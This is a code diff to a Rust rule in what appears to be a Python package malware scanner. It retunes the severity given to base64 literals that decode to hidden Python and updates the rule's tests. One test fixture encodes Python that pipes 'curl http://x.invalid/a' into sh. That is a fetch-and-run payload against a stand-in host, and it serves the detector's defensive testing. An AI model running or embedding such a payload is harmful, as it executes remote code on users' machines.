@@ -16,7 +16,9 @@ pub const RULE: Rule = Rule {
     rationale: "Encoding hides the payload from readers and pattern scanners. Libraries decode data \
                 they receive, which weighs nothing; a literal that decodes to Python source or to a \
                 marshalled code object is a hidden program and is analysed as its own layer (a \
-                code object is read, never run, and its bytecode rendered back to source).",
+                code object is read, never run, and its bytecode rendered back to source). The \
+                hiding weighs as obfuscation (0.3 while loading); what the hidden code does \
+                weighs through its layer's own findings, and running it through exec.",
     category: Category::Anomaly,
 };
 
@@ -172,7 +174,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             if context == ExecContext::TestOrDocs {
                 0.2
             } else {
-                0.55
+                0.3
             },
             vec!["decoded-python", "hidden-code"],
         );
@@ -287,7 +289,7 @@ pub fn check_string(checker: &mut Checker, value: &str, range: TextRange) {
         if context == ExecContext::TestOrDocs {
             0.15
         } else {
-            0.4
+            0.25
         },
         vec!["decoded-python", "hidden-code"],
     );
@@ -303,12 +305,32 @@ mod tests {
     fn hidden_python_is_decoded_and_analysed() {
         // base64 of "import os\nos.system('curl http://x.invalid/a | sh')\n"
         let code = "import base64\np = base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaCcpCg==')\n";
-        assert!(max_severity("p/pkg/__init__.py", code, "WH170") >= 0.5);
+        assert!(max_severity("p/pkg/__init__.py", code, "WH170") >= 0.3);
         let layered: Vec<_> = findings("p/pkg/__init__.py", code)
             .into_iter()
             .filter(|f| f.path.contains("#layer"))
             .collect();
-        assert!(layered.iter().any(|f| f.rule == "WH120"), "{layered:?}");
+        // What the hidden code does is what weighs: a shell pipe run while loading.
+        assert!(
+            layered
+                .iter()
+                .any(|f| f.rule == "WH120" && f.severity >= 0.8),
+            "{layered:?}"
+        );
+    }
+
+    #[test]
+    fn harmless_hidden_python_alone_stays_below_suspicious() {
+        // Vendored tools embed their templates compressed (virtualenv 16's site.py): base64 of
+        // "def add(a, b):\n    return a + b\n" bound to a constant, never run.
+        let code = "import base64\nSITE_PY = base64.b64decode('ZGVmIGFkZChhLCBiKToKICAgIHJldHVybiBhICsgYgo=')\n";
+        let severity = max_severity("p/pkg/__init__.py", code, "WH170");
+        assert!(severity > 0.0 && severity < 0.4, "{severity}");
+        let layered: Vec<_> = findings("p/pkg/__init__.py", code)
+            .into_iter()
+            .filter(|f| f.path.contains("#layer") && f.severity >= 0.1)
+            .collect();
+        assert!(layered.is_empty(), "{layered:?}");
     }
 
     #[test]
